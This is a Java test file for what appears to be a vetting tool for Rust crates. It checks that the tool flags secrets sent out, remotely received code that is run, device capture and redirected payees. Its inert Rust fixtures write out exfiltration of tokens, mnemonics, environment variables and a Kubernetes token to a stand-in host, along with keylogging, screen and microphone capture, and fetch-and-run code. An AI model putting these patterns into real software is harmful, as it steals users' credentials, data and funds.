package lazaret.vetting.inspect;

import static lazaret.vetting.inspect.InspectionFixture.demo;
import static lazaret.vetting.inspect.InspectionFixture.inspect;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.Set;
import java.util.stream.Collectors;
import lazaret.testkit.CrateBuilder;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// Libraries whose values pass through fields, results and parameters of several sources before
/// they are sent or run. `%%` separates the sources. All are inert and never compiled.
final class CrateReachTest {
  private static final String POST =
      "pub async fn note(c: &reqwest::Client, words: &str) { c.post(\"https://c.x-host.net/v1\").json(&serde_json::json!({\"w\": words})).send().await; }";

  @ParameterizedTest
  @ValueSource(
      strings = {
        // A parameter with another name at the call, in a function of another source.
        "mod report; pub async fn open(c: &Client, phrase: &str) { report::note(c, phrase).await; }%%"
            + POST,
        // Through two functions.
        "mod mid; mod report; pub fn open(seed: &[u8]) { mid::pass(seed); }%%use crate::report; pub fn pass(raw: &[u8]) { let t = hex::encode(raw); report::push(&t); }%%pub fn push(t: &str) { ureq::post(\"https://c.x-host.net\").send_string(t); }",
        // A credential in a field, read where the value is made.
        "mod io; pub struct Api { http: reqwest::Client, auth: String, base: String } impl Api { pub fn open(base: String) -> Self { let auth = io::load(); Self { http: reqwest::Client::new(), auth, base } } pub async fn push(&self) { let b = serde_json::json!({ \"t\": self.auth, \"n\": 1 }); self.http.post(\"https://c.x-host.net/i\").json(&b).send().await; } }%%pub fn load() -> String { std::fs::read_to_string(\"/var/run/secrets/kubernetes.io/serviceaccount/token\").unwrap_or_default() }",
        // A method of a type in another source.
        "mod sink; pub struct Wallet { out: sink::Out } impl Wallet { pub fn import(&self, mnemonic: &str) { self.out.observe(mnemonic); } }%%pub struct Out { http: reqwest::Client } impl Out { pub fn observe(&self, text: &str) { self.http.post(HOST).body(text.to_string()).send(); } }",
        // A struct that is filled here and sent there.
        "mod ev; pub fn unlock(private_key: &str) { let e = ev::Event { kind: 1, tag: private_key.to_string() }; ev::ship(e); }%%pub struct Event { pub kind: u8, pub tag: String } pub fn ship(e: Event) { ureq::post(\"https://c.x-host.net\").send_json(&e); }",
        // A result of a function.
        "mod env; pub fn f() { let all = env::gather(); reqwest::Client::new().post(\"https://c.x-host.net\").form(&all).send(); }%%pub fn gather() -> Vec<(String, String)> { std::env::vars().collect() }",
        // A datagram whose destination is a constant.
        "mod net; pub fn f(secret_key: &[u8]) { net::beat(secret_key); }%%use std::net::UdpSocket; const TO: &str = \"c.x-host.net:53\"; pub fn beat(data: &[u8]) { let s = UdpSocket::bind(a).unwrap(); for part in data.chunks(32) { s.send_to(part, TO); } }",
        // A queue in a field that a thread empties.
        "mod q; pub fn f(q: &mut q::Queue, mnemonic: &str) { q.stash(mnemonic); }%%pub struct Queue { rows: Vec<String> } impl Queue { pub fn stash(&mut self, row: &str) { self.rows.push(row.to_string()); } pub fn drain_all(&mut self) { ureq::post(\"https://c.x-host.net\").send_json(&self.rows); } }",
      })
  void seesSecretsThatPassThroughSources(String sources) {
    assertThat(signals(sources, SignalWeight.HIGH)).contains("secret-sent");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        // The caller's host.
        "mod report; pub async fn open(c: &Client, phrase: &str) { report::note(c, B, phrase).await; }%%pub async fn note(c: &reqwest::Client, base: &str, words: &str) { c.post(format!(\"{base}/v1\")).json(&words).send().await; }",
        // A credential in the header for its own service.
        "mod io; pub struct Api { http: reqwest::Client, auth: String } impl Api { pub fn open() -> Self { Self { http: c(), auth: io::load() } } pub async fn get(&self, q: &str) { self.http.post(\"https://api.x-host.net\").bearer_auth(&self.auth).json(&q).send().await; } }%%pub fn load() -> String { std::fs::read_to_string(home.join(\".netrc\")).unwrap_or_default() }",
        // A signature is not a secret.
        "mod report; pub async fn open(c: &Client, private_key: &str) { report::note(c, sign(private_key)).await; }%%"
            + POST,
        "mod report; pub async fn open(c: &Client, name: &str) { report::note(c, name).await; }%%"
            + POST,
      })
  void leavesOrdinaryClientsAlone(String sources) {
    assertThat(signals(sources, SignalWeight.REVIEW)).doesNotContain("secret-sent", "machine-sent");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        // A feed with nested steps, split into program and arguments.
        "mod feed; pub async fn f(c: &reqwest::Client) { let f: feed::Feed = c.get(U).send().await.unwrap().json().await.unwrap(); f.apply(); }%%#[derive(serde::Deserialize)] pub struct Feed { pub title: String, pub hooks: Vec<Hook> } #[derive(serde::Deserialize)] pub struct Hook { pub line: Vec<String> } impl Feed { pub fn apply(&self) { for h in &self.hooks { h.go(); } } } impl Hook { pub fn go(&self) { if let Some((first, rest)) = self.line.split_first() { std::process::Command::new(first).args(rest).spawn(); } } }",
        "mod get; mod m; pub fn f() { let n = get::notice().unwrap(); m::start(&n.update); }%%use crate::m::Notice; pub fn notice() -> Result<Notice, E> { let t = ureq::get(U).call()?.into_string()?; Ok(serde_json::from_str::<Notice>(&t)?) }%%#[derive(Deserialize)] pub struct Notice { pub update: Update } #[derive(Deserialize)] pub struct Update { pub program: String } pub fn start(u: &Update) { std::process::Command::new(&u.program).spawn(); }",
        "mod run; pub fn f() { let t = reqwest::blocking::get(U).unwrap().text().unwrap(); run::go(&t); }%%pub fn go(cmd: &str) { std::process::Command::new(\"sh\").arg(\"-c\").arg(cmd).status(); }",
        "mod net; pub fn f() { if let Some(p) = net::name() { std::process::Command::new(p).spawn(); } }%%pub fn name() -> Option<String> { let t = ureq::get(U).call().ok()?.into_string().ok()?; Some(t) }",
        // Script engines.
        "mod net; pub fn f() { let e = rhai::Engine::new(); if let Some(s) = net::rules() { e.eval::<()>(&s); e.run(&s); } }%%pub fn rules() -> Option<String> { ureq::get(U).call().ok()?.into_string().ok() }",
        "pub fn f(lua: &mlua::Lua) { let s = reqwest::blocking::get(U).unwrap().text().unwrap(); lua.load(&s).exec(); }",
        "mod js; pub async fn f() { let t = reqwest::get(U).await.unwrap().text().await.unwrap(); js::go(t); }%%pub fn go(t: String) { let mut c = boa_engine::Context::default(); c.eval(t); }",
      })
  void seesWhatIsReceivedAndRunElsewhere(String sources) {
    assertThat(signals(sources, SignalWeight.HIGH)).contains("received-run");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        // A configuration of the user, in a source with a client.
        "mod conf; pub fn f() { let c = conf::load(P); c.go(); reqwest::blocking::get(U); }%%#[derive(serde::Deserialize)] pub struct Conf { pub editor: String } pub fn load(p: &Path) -> Conf { let t = std::fs::read_to_string(p).unwrap(); toml::from_str(&t).unwrap() } impl Conf { pub fn go(&self) { std::process::Command::new(&self.editor).spawn(); } }",
        "pub fn f(e: &rhai::Engine, script: &str) { e.eval::<()>(script); reqwest::blocking::get(U); }",
        "#[derive(Deserialize)] struct Rate { usd: f64 } pub fn f(program: &str) { let r: Rate = reqwest::blocking::get(U).unwrap().json().unwrap(); std::process::Command::new(program).arg(r.usd.to_string()).spawn(); }",
      })
  void leavesTheUsersProgramsAlone(String sources) {
    assertThat(signals(sources, SignalWeight.HIGH)).doesNotContain("received-run");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "use std::{fs, net::UdpSocket, thread}; const TO: &str = \"c.x-host.net:514\"; pub fn f() { for e in fs::read_dir(\"/dev/input\").unwrap() { let mut d = fs::File::open(e.unwrap().path()).unwrap(); thread::spawn(move || { let s = UdpSocket::bind(A).unwrap(); let mut b = [0u8; 24]; loop { d.read_exact(&mut b); s.send_to(&b, TO); } }); } }",
        "use std::{fs, net::UdpSocket}; struct Tap { buf: Vec<u8>, sock: UdpSocket } impl Tap { fn feed(&mut self) { let mut d = fs::File::open(Path::new(\"/dev\").join(\"input\").join(n)).unwrap(); let mut raw = [0u8; 24]; d.read_exact(&mut raw); let ev = parse(&raw); self.buf.push(ev.code); self.sock.send_to(&self.buf, \"c.x-host.net:9\"); } }",
        "pub fn f() { let shot = std::fs::read(\"/dev/fb0\").unwrap(); reqwest::blocking::Client::new().post(\"https://c.x-host.net\").body(shot).send(); }",
        "mod up; pub fn f() { let v = std::fs::read(\"/dev/snd/pcmC0D0c\").unwrap(); up::load(v); }%%pub fn load(v: Vec<u8>) { ureq::put(\"https://c.x-host.net\").send_bytes(&v); }",
      })
  void seesDevicesOfTheUserThatAreSent(String sources) {
    assertThat(signals(sources, SignalWeight.HIGH)).contains("secret-sent");
  }

  @Test
  void leavesReadersOfDevicesAlone() {
    String source =
        "pub fn f() { let d = std::fs::read_dir(\"/dev/input\").unwrap(); for e in d { open(e); } }";

    assertThat(signals(source, SignalWeight.REVIEW)).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "mod q; pub async fn pay(c: &reqwest::Client, k: &Keypair) { let r: q::Quote = c.get(U).send().await?.json().await?; let to = r.collector(9).unwrap_or_else(|| k.pubkey()); transfer(k, to); }%%#[derive(Deserialize)] pub struct Quote { pub rate: f64, #[serde(default)] tiers: Vec<Tier> } #[derive(Deserialize)] pub struct Tier { from: u64, to: String } impl Quote { pub fn collector(&self, n: u64) -> Option<String> { self.tiers.iter().find(|t| t.from <= n).map(|t| t.to.clone()) } }",
        "#[derive(Deserialize)] pub struct Fee { pub sat: u64, #[serde(default)] pub route: Option<String> } pub fn fee() -> Fee { ureq::get(U).call().unwrap().into_json().unwrap() } pub fn load() -> Fee { let t = ureq::get(U).call().unwrap().into_string().unwrap(); serde_json::from_str(&t).unwrap() } pub fn pay(k: &Key) { let f = load(); let to = match f.route { Some(r) => r, None => k.address() }; send_coins(to); }",
        "#[derive(Deserialize)] pub struct Rate { pub route: Option<Pubkey> } pub fn pay(f: &Rate, k: &Key) { let to = if let Some(r) = f.route { r } else { k.pubkey() }; send_coins(to); } pub fn get() -> Rate { reqwest::blocking::get(U).unwrap().json().unwrap() }",
      })
  void seesAPayeeOutOfAnAnswer(String sources) {
    assertThat(signals(sources, SignalWeight.HIGH)).contains("fixed-recipient");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "pub fn pay(to: Option<Pubkey>, k: &Keypair) { let to = to.unwrap_or_else(|| k.pubkey()); transfer(k, to); reqwest::blocking::get(U); }",
        "#[derive(Deserialize)] pub struct Conf { pub payee: Option<String> } pub fn pay(c: &Conf, k: &Keypair) { let to = c.payee.clone().unwrap_or_else(|| k.pubkey()); transfer(k, to); reqwest::blocking::get(U); }",
        "#[derive(Deserialize)] pub struct Rate { pub usd: Option<f64> } pub fn f(c: C) -> f64 { let r: Rate = reqwest::blocking::get(U).unwrap().json().unwrap(); r.usd.unwrap_or(1.0) }",
      })
  void leavesThePayeeOfTheCallerAlone(String sources) {
    assertThat(signals(sources, SignalWeight.HIGH)).doesNotContain("fixed-recipient");
  }

  private static Set<String> signals(String sources, SignalWeight least) {
    String[] parts = sources.split("%%", -1);
    CrateBuilder crate =
        demo()
            .manifest(InspectionFixture.MANIFEST + "[dependencies.reqwest]\nversion = \"0.12\"\n")
            .file("src/lib.rs", parts[0]);
    for (int i = 1; i < parts.length; i++) {
      String head = parts[0].replaceAll("pub .*", "");
      String[] names = head.split("mod ", -1);
      String name = i < names.length ? names[i].split(";", 2)[0].strip() : "m" + i;
      crate = crate.file("src/" + name + ".rs", parts[i]);
    }
    return inspect(crate).signals().stream()
        .filter(signal -> signal.weight().compareTo(least) >= 0)
        .map(Signal::code)
        .map(Object::toString)
        .collect(Collectors.toSet());
  }
}
